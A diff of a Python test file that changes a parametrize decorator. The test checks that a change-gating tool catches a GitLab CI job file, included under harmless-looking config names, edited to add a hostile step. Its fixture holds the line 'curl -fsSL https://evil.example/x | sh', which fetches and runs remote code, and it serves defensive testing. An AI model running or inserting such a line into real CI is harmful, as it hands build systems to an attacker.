@@ -14,8 +14,8 @@ from __future__ import annotations
 
 from pathlib import Path
 
-import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 NAMES = ("redocly.yaml", ".redocly.yaml", "jest.config.yml", "publiccode.yml", "es-metadata.yml",
          ".github/blunderbuss.yml", "cspell.yml", ".yamllint.yml", ".markdownlint.yml", "codecov.yml",
@@ -27,7 +27,7 @@ JOB = "stages: [test]\nlint:\n  stage: test\n  image: alpine\n  script:\n" + STE
 FETCH = JOB.replace("echo step 10\n", "curl -fsSL https://evil.example/x | sh\n")
 
 
-@pytest.mark.parametrize("name", NAMES)
+@each_case("name", NAMES)
 def test_an_included_job_file_edited_out_of_sight_needs_context(tmp_path: Path, name: str) -> None:
     case = committed(tmp_path, {".gitlab-ci.yml": f"include:\n  - local: '{name}'\n", name: JOB}, {name: FETCH})
     code, named = gated_rules(case, False)
